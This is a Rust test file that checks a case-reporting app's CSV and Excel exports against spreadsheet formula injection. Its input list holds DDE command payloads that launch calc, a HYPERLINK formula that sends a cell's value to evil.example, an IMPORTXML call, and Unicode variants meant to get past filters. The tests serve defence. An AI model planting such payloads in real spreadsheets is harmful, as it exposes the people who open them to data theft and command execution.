//! What a citizen says must not run in a clerk's spreadsheet.

use super::*;

/// Each may stand where anybody types.
const WORDS: [&str; 22] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?x=\"&B3,\"点此查看\")",
    "=cmd|' /C calc'!A0",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "+8613800000000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u{3000}=1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\"=1+1\"",
    "'=1+1",
    "“=1+1”",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
];

/// Odd, but harmless.
const ODD: [&str; 8] = [
    "a\u{0}b\u{1b}c",
    "<script>&amp;]]>",
    "_x0041_",
    "他说\"好\",然后走了",
    "一行\r\n两行",
    "𠮷😀",
    "https://example.com",
    "NULL",
];

fn said(phone: &Phone) {
    for words in WORDS.iter().chain(&ODD) {
        let mut report = scenes::reported(words);
        report.account = (*words).into();
        report.place.detail = (*words).into();
        report.reporter.as_mut().unwrap().name = (*words).into();
        phone.device().report(report).unwrap();
    }
}

#[test]
fn no_words_become_a_formula_in_any_format() {
    let world = World::new(1);
    let worker = world.phone("w-ncg-1");
    said(&worker);
    let fields = ["title", "account", "address", "reporter"];

    for (line, words) in json(&worker, "cases", None).iter().zip(WORDS.iter().chain(&ODD)) {
        assert!(fields.iter().all(|field| line[field] == *words), "JSON keeps {words:?} as it was said: {line}");
    }

    let (text, _) = bytes(&worker, "cases", Format::Csv, None);
    let rows = csv(&text);
    let columns: Vec<usize> = ["事项", "反映情况", "地址", "反映人"]
        .iter()
        .map(|title| rows[0].iter().position(|cell| cell == title).unwrap())
        .collect();
    for (n, row) in rows[1..].iter().enumerate() {
        for column in &columns {
            assert_eq!(row[*column].starts_with('\''), n < WORDS.len(), "{:?}", row[*column]);
        }
        for cell in row {
            let bare = cell.trim_start_matches(|c: char| c.is_whitespace() || "\"“\u{feff}\u{200b}".contains(c));
            assert!(!bare.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "{cell:?}");
        }
    }

    let (book, _) = bytes(&worker, "cases", Format::Xlsx, None);
    // No formulas: the reader looks for them.
    let rows = workbook(&book);
    let title = rows[1].iter().position(|cell| *cell == Data::String("事项".into())).unwrap();
    for (row, words) in rows[2..].iter().zip(WORDS.iter().chain(&ODD)) {
        let shown = words.replace("\r\n", "\n").replace('\r', "\n").replace('\0', "␀").replace('\u{1b}', "␛");
        assert_eq!(row[title], Data::String(shown));
    }
}

#[test]
fn numbers_and_days_that_we_write_ourselves_stay_what_they_are() {
    let world = World::new(2);
    let lead = world.phone("lead-ncg");
    // A phone number's zero, a check number's last digits: a spreadsheet would change them.
    let mut report = scenes::reported("水压低");
    report.reporter.as_mut().unwrap().phone = "09318888888".into();
    lead.device().report(report).unwrap();
    let rows = csv(&bytes(&lead, "cases", Format::Csv, None).0);
    let cell = |title: &str| &rows[1][rows[0].iter().position(|cell| cell == title).unwrap()];
    assert_eq!(cell("受理日期"), "2026-05-08");
    assert_eq!(cell("序号"), "1");
    assert_eq!(cell("联系电话"), "'09318888888");
    let sheet = workbook(&bytes(&lead, "cases", Format::Xlsx, None).0);
    assert!(sheet[2].contains(&Data::String("09318888888".into())), "in a workbook it is text anyhow");
}
